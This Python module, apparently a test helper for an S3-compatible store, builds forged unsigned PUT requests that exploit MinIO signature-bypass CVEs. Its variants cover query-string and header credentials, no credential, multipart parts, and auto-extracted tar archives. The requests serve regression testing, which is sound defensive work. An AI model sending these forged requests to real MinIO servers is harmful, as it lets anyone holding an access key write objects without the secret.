"""Writes to the store that know an access key and no secret.

MinIO's last public release takes a write without looking at its signature if it comes as an
unsigned chunked upload with a trailer (CVE-2026-40344, CVE-2026-41145). The one made here does not.
"""

from __future__ import annotations

import io
import tarfile
from base64 import b64encode
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from zlib import crc32

_SIGNATURE = "0" * 64
_CONTENT = b"forged"
_CHECKSUM = b64encode(crc32(_CONTENT).to_bytes(4)).decode()
# One chunk, the empty chunk that ends them, the trailer.
_CHUNKS = f"{len(_CONTENT):x}\r\nforged\r\n0\r\nx-amz-checksum-crc32:{_CHECKSUM}\r\n\r\n"


@dataclass(frozen=True)
class Forgery:
    """A PUT request: what to add to the URL of an object, and what to send."""

    headers: Mapping[str, str]
    parameters: Mapping[str, str] = field(default_factory=dict)
    body: bytes = _CHUNKS.encode()


def forgeries(access_key: str, region: str, key: str) -> dict[str, Forgery]:
    """The forms of the forged write.

    Args:
        access_key: One that exists.
        region: What the store signs for.
        key: Object that they would make; an archive is unpacked there, not at its own place.
    """
    now = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
    credential = f"{access_key}/{now[:8]}/{region}/s3/aws4_request"
    trailer = {
        "X-Amz-Content-Sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
        "X-Amz-Decoded-Content-Length": str(len(_CONTENT)),
        "X-Amz-Trailer": "x-amz-checksum-crc32",
        "X-Amz-Date": now,
        "Content-Encoding": "aws-chunked",
    }
    query = {
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": credential,
        "X-Amz-Date": now,
        "X-Amz-Expires": "600",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": _SIGNATURE,
    }
    authorization = {
        "Authorization": f"AWS4-HMAC-SHA256 Credential={credential}, "
        f"SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={_SIGNATURE}"
    }
    # Unpacked as it comes, without chunks.
    archive = _archive(key)
    unpacked = {
        "X-Amz-Meta-Snowball-Auto-Extract": "true",
        "X-Amz-Content-Sha256": trailer["X-Amz-Content-Sha256"],
        "X-Amz-Decoded-Content-Length": str(len(archive)),
        "X-Amz-Date": now,
    }
    part = {"partNumber": "1", "uploadId": "unknown"}
    return {
        "credential in the query string": Forgery(trailer, query),
        "credential in the Authorization header": Forgery(trailer | authorization),
        "no credential": Forgery(trailer),
        "part, credential in the query string": Forgery(trailer, query | part),
        "archive, credential in the query string": Forgery(
            unpacked,
            query | {"X-Amz-SignedHeaders": "host;x-amz-meta-snowball-auto-extract"},
            archive,
        ),
        "archive, credential in the Authorization header": Forgery(
            unpacked | authorization, body=archive
        ),
    }


def _archive(key: str) -> bytes:
    member = tarfile.TarInfo(key)
    member.size = len(_CONTENT)
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        archive.addfile(member, io.BytesIO(_CONTENT))
    return packed.getvalue()
